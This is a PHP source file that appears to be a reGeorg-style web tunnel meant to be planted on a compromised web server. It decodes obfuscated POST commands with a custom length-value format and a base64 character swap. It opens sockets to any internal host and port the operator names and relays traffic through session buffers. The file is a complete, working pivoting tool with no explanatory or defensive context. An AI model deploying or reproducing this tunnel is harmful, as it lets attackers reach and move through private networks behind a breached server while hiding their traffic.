<?php
ini_set("allow_url_fopen", true);
ini_set("allow_url_include", true);
error_reporting(E_ERROR | E_PARSE);
$DATA          = 1;
$CMD           = 2;
$MARK          = 3;
$STATUS        = 4;
$ERROR         = 5;
$IP            = 6;
$PORT          = 7;
$REDIRECTURL   = 8;
$FORCEREDIRECT = 9;
$GeorgHello = "__HELLO__";
function blv_decode($data) {
    $data_len = strlen($data);
    $info = array();
    $i = 0;
    while ($i < $data_len) {
        $d = unpack("c1b/N1l", substr($data, $i, 5));
        $b = $d['b'];
        $l = $d['l'] - 1966546385;
        $i += 5;
        $v = substr($data, $i, $l);
        $i += $l;
        $info[$b] = $v;
    }
    return $info;
}
function blv_encode($info) {
    $data = "";
    $info[0] = randstr();
    $info[39] = randstr();
    foreach ($info as $b => $v) {
        $l = strlen($v) + 1966546385;
        $data .= pack("c1N1", $b, $l);
        $data .= $v;
    }
    return $data;
}
function randstr() {
    $rand = '';
    $length = mt_rand(5, 20);
    for ($i = 0; $i < $length; $i++) { $rand .= chr(mt_rand(0, 255)); }
    return $rand;
}
$en = "__EN__";
$de = "__DE__";
if (version_compare(PHP_VERSION, '5.4.0', '>=')) { @http_response_code(200); }
$rinfo = array();
$post_data = file_get_contents("php://input");
if (strlen($post_data) > 0) {
    $rinfo = blv_decode(base64_decode(strtr($post_data, $de, $en)));
}
$cmd = isset($rinfo[$CMD]) ? $rinfo[$CMD] : "";
$mark = isset($rinfo[$MARK]) ? substr($rinfo[$MARK], 0, 22) : "";
$info = array();
if ($cmd === "") {
    echo $GeorgHello;
    exit;
}
$readbuf = $mark . '_rb';
$writebuf = $mark . '_wb';
if ($cmd === "CONNECT") {
    set_time_limit(0);
    $target = $rinfo[$IP];
    $port = (int)$rinfo[$PORT];
    $res = fsockopen($target, $port, $errno, $errstr, 3);
    if ($res === false) {
        $info[$STATUS] = 'FAIL';
        $info[$ERROR] = "Failed connecting to target";
        echo strtr(base64_encode(blv_encode($info)), $en, $de);
        exit;
    }
    stream_set_blocking($res, false);
    ignore_user_abort();
    @session_start();
    $_SESSION[$readbuf] = "";
    $_SESSION[$writebuf] = "";
    $_SESSION["run"] = true;
    session_write_close();
    $info[$STATUS] = 'OK';
    echo strtr(base64_encode(blv_encode($info)), $en, $de);
    flush();
    while (true) {
        @session_start();
        $writeBuff = $_SESSION[$writebuf];
        $_SESSION[$writebuf] = "";
        $run = $_SESSION["run"];
        session_write_close();
        if (!$run) { break; }
        if ($writeBuff != "") { fwrite($res, $writeBuff); }
        $readBuff = "";
        while ($o = fgets($res, 2048)) { $readBuff .= $o; }
        if ($readBuff != "") { @session_start(); $_SESSION[$readbuf] .= $readBuff; session_write_close(); }
        usleep(50000);
    }
    fclose($res);
} elseif ($cmd === "DISCONNECT") {
    @session_start();
    unset($_SESSION["run"]);
    session_write_close();
} elseif ($cmd === "READ") {
    @session_start();
    $readBuffer = $_SESSION[$readbuf];
    $_SESSION[$readbuf] = "";
    session_write_close();
    $info[$STATUS] = 'OK';
    $info[$DATA] = $readBuffer;
    echo strtr(base64_encode(blv_encode($info)), $en, $de);
} elseif ($cmd === "FORWARD") {
    @session_start();
    $_SESSION[$writebuf] .= $rinfo[$DATA];
    session_write_close();
    $info[$STATUS] = 'OK';
    echo strtr(base64_encode(blv_encode($info)), $en, $de);
}
